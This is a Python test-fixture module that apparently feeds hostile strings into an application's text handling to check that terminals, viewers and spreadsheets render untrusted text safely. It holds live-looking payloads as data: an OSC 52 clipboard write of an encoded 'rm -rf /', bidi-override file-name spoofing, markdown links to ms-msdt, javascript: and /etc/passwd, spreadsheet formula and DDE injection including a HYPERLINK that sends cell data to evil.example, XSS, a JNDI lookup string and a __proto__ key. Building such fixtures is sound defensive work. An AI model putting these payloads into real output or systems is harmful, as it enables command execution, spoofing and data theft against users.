"""Hostility: text that would do harm to a terminal, a reader or a spreadsheet that trusts it."""

from __future__ import annotations

from typing import Any

HOSTILE_TEXTS = (
    " \x1b]52;c;cm0gLXJmIC8=\x07 copied?",  # OSC 52: writes to the clipboard
    " \x1b]0;owned\x07\x1b[2J\x1b[H\x1b[31m red?",  # title, clear, home, colour
    " \x9b31m\x9d0;owned\x9c\x85 C1?",  # the same in single characters
    " \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1bPq\x1b\\ \x08\x08\x7f\x00",
    " invoice\u202efdp.exe \u2066isolated\u2069 \u200fמ\u200e",  # bidi overrides and isolates
    " pass\u200bwo\u2060rd\ufeff\u00ad \U000e0061\U000e0062\U000e007f",  # zero-width and tag characters
    " [/nope] [@click=app.quit]quit[/] [bold red]loud[/] [link=https://evil.example]x[/link] \\[",
    " [calendar](ms-msdt:/id%20PCWDiagnostic) [help](javascript:alert(1)) [file](file:///etc/passwd)"
    " ![pixel](http://127.0.0.1:9/pixel.png)",
    '\n\n=HYPERLINK("http://evil.example?"&A1,"ok")\n+1+cmd|\' /C calc\'!A0\n@SUM(1)\n-2+3\n\n',
    " one\rtwo\u2028three\u0085four\x0bfive\x0csix\r\n",  # every way to end a line
    " <script>alert(1)</script> <img src=x onerror=alert(1)> &lt;b&gt; ${jndi:ldap://127.0.0.1:9/x} ",
    " Z" + "\u0336\u0321\u034f" * 60 + " \U0001f469" + "\u200d\U0001f469" * 20 + " ",
)
HOSTILE_STOP_REASON = "completed\x1b]0;owned\x07\x1b[2J[@click=app.quit]\u202edne[/]"
HOSTILE_NAMES = ("\x1b]0;owned\x07trace", "[@click=app.quit]name[/]", "=cmd|' /C calc'!A0", "\u202eecart\u200b")


def _chunk(number: int, text: str) -> dict[str, Any]:
    return {
        "chunk_id": f"{text[:24]}{number}",
        "content": text,
        "metadata": {"model": text, text: "[/nope]\x1b[2J", "note": "=1+1", "__proto__": {"x": 1}},
    }


HOSTILE_CHUNKS = tuple(_chunk(number, text) for number, text in enumerate(HOSTILE_TEXTS))
"""Chunks without their counts, hostile in every field that holds text."""
